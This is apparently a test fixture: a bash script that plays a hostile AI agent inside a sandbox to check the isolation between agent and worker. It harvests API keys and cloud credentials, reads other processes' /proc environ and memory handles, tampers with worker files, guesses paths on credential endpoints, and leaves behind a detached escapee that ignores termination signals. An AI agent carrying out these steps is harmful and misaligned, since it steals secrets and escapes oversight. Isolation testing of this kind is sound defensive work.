#!/bin/bash
# A hostile agent (issue 15, "separate identities"), run by the worker in place of the CLI (OUTPOST_AGENT_COMMAND).
# It goes after everything the worker holds: its environment, /proc of every process that is not its own,
# the worker's files, the worker's port, the task-credentials endpoint, set-uid programs and a user namespace,
# and it leaves a `setsid`, double-forked escapee behind that waits for the push to read git's /proc.
#
# Everything it manages to read goes to /tmp/hostile-agent/loot (the task's /tmp volume, which the test reads
# after the run and searches for the run's secrets), and one `finding <attack> <outcome>` line per attack goes
# to stdout (the transcript). First it plants the git routes of hostile-git.sh, which sits next to it.
set -u
here=$(dirname "$0")
work=$PWD
dir=/tmp/hostile-agent
loot="$dir/loot"
mkdir -p "$dir" && chmod 777 "$dir"
: > "$loot"

finding() { echo "finding $1 $2"; }
# grab <attack> <file>: its content into the loot when readable.
grab() {
  if content=$(tr '\0' '\n' 2>/dev/null < "$2"); then
    { echo "== $1 $2"; printf '%s\n' "$content"; } >> "$loot"
    finding "$1" read
  else
    finding "$1" denied
  fi
}
now_ms() { date +%s%3N; }

# The git routes: config, hooks, filters, commondir, fsmonitor, attributes (hostile-git.sh writes hello.txt).
"$here/hostile-git.sh"

# 1. Its own environment, and the provider key base64-encoded as a prompt could ask for it.
env >> "$loot"
finding provider-key-base64 "$(printf '%s' "${ANTHROPIC_API_KEY:-}" | base64 -w0)."
finding credentials-uri "${AWS_CONTAINER_CREDENTIALS_FULL_URI:-}${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI:-}."

# 2. /proc of the worker (found by its command line, whoever it runs as), and of every process that is not
# the agent's own (the container's init among them).
me=$(id -u)
worker=$(pgrep -f '/opt/outpost/worker/worker.js' | head -1)
probe_process() {
  local pid=$1 name=$2
  grab "environ-$name" "/proc/$pid/environ"
  # cmdline is readable by anyone on Linux: what matters is that it holds no secret.
  grab "cmdline-$name" "/proc/$pid/cmdline"
  # Opening mem is the permission check (reading offset 0 would fail anyway: nothing is mapped there).
  if (exec 3<"/proc/$pid/mem") 2>/dev/null; then finding "mem-$name" read; else finding "mem-$name" denied; fi
  if ls "/proc/$pid/fd/" >/dev/null 2>&1; then finding "fd-$name" read; else finding "fd-$name" denied; fi
  if ls "/proc/$pid/cwd/" >/dev/null 2>&1; then finding "cwd-$name" read; else finding "cwd-$name" denied; fi
  if kill -0 "$pid" 2>/dev/null; then finding "signal-$name" allowed; else finding "signal-$name" denied; fi
}
[ -n "$worker" ] && probe_process "$worker" worker
for status in /proc/[0-9]*/status; do
  pid=${status#/proc/}; pid=${pid%/status}
  uid=$(awk '$1 == "Uid:" { print $2 }' "$status" 2>/dev/null) || continue
  [ -n "$uid" ] && [ "$uid" != "$me" ] && [ "$pid" != "$worker" ] || continue
  probe_process "$pid" "$(cat "/proc/$pid/comm" 2>/dev/null)"
done
# The same through a user namespace of its own, where it is "root" (if the kernel lets it make one).
if unshare -r true 2>/dev/null; then
  if unshare -r cat "/proc/$worker/environ" >> "$loot" 2>/dev/null; then finding userns-environ read; else finding userns-environ denied; fi
else
  finding userns-environ no-user-namespace
fi

# 3. The worker's files: its directory, git directories, artifacts and the transcript; then taking them over.
id=$(basename "$work")
if ls /workspace/.outpost >/dev/null 2>&1; then finding list-worker-directory read; else finding list-worker-directory denied; fi
grab worker-transcript "/workspace/.outpost/$id/transcript.log"
grab worker-git-config "/workspace/.outpost/$id.git/fetched.git/config"
grab worker-git-head "/workspace/.outpost/$id.git/fetched.git/HEAD"
if echo planted 2>/dev/null > "/workspace/.outpost/$id/transcript.log"; then finding write-transcript allowed; else finding write-transcript denied; fi
if mv /workspace/.outpost /workspace/.outpost-moved 2>/dev/null; then finding rename-worker-directory allowed; else finding rename-worker-directory denied; fi
if mkdir /workspace/.outpost-planted 2>/dev/null; then finding write-workspace-root allowed; else finding write-workspace-root denied; fi

# 4. The worker's port: its assignment endpoint wants the bearer token it does not have.
status=$(timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080; printf "POST /assignment HTTP/1.1\r\nHost: worker\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}" >&3; head -1 <&3' 2>/dev/null | tr -d '\r')
finding worker-port "${status// /_}"

# 5. The task-credentials endpoint: the stand-in listens on HOSTILE_CREDENTIALS_PORT; without the URI's
# path, all the agent can do is guess.
for guess in / /v2/credentials /v2/credentials/ /v2/metadata; do
  timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/${HOSTILE_CREDENTIALS_PORT:-9}; printf 'GET $guess HTTP/1.1\r\nHost: creds\r\nConnection: close\r\n\r\n' >&3; cat <&3" >> "$loot" 2>/dev/null
done
finding credentials-guessed done

# 6. Set-uid programs: no_new_privs makes them run with the agent's privileges, which are none.
finding no-new-privs "$(awk '$1 == "NoNewPrivs:" { print $2 }' /proc/self/status)"
finding cap-bounding "$(awk '$1 == "CapBnd:" { print $2 }' /proc/self/status)"
if mkdir -p "$dir/mnt" && mount -t tmpfs none "$dir/mnt" 2>/dev/null; then finding setuid-mount allowed; else finding setuid-mount denied; fi
if su -c 'id -u' root </dev/null >/dev/null 2>&1; then finding setuid-su allowed; else finding setuid-su denied; fi

# 7. The escapee: its own session (setsid), double-forked so that init adopts it, deaf to SIGTERM and
# SIGHUP. It writes a heartbeat every 20 ms and, as soon as git runs, tries git's environment and fds.
cat > "$dir/escapee.sh" <<'ESCAPEE'
#!/bin/bash
trap '' TERM HUP INT
dir=/tmp/hostile-agent
while :; do
  date +%s%3N >> "$dir/heartbeat"
  for comm in /proc/[0-9]*/comm; do
    case "$(cat "$comm" 2>/dev/null)" in
      git|git-remote-htt*)
        pid=${comm#/proc/}; pid=${pid%/comm}
        { echo "== escapee git $pid"; tr '\0' '\n' < "/proc/$pid/environ"; ls -l "/proc/$pid/fd/"; } >> "$dir/loot" 2>/dev/null \
          && echo "escapee read git $pid" >> "$dir/escapee-findings"
        tr '\0' ' ' < "/proc/$pid/cmdline" >> "$dir/loot" 2>/dev/null
        ;;
    esac
  done
  sleep 0.02
done
ESCAPEE
chmod 755 "$dir/escapee.sh"
( setsid "$dir/escapee.sh" </dev/null >/dev/null 2>&1 & ) &
wait
sleep 0.5
escapee=$(pgrep -f "$dir/escapee.sh" | head -1)
if [ -n "$escapee" ] && [ "$(ps -o sid= -p "$escapee" | tr -d ' ')" != "$(ps -o sid= -p $$ | tr -d ' ')" ]; then
  finding escapee "running-in-its-own-session"
else
  finding escapee "not-started"
fi

echo "hostile agent: exiting at $(now_ms)"
finding agent-exit-ms "$(now_ms)"
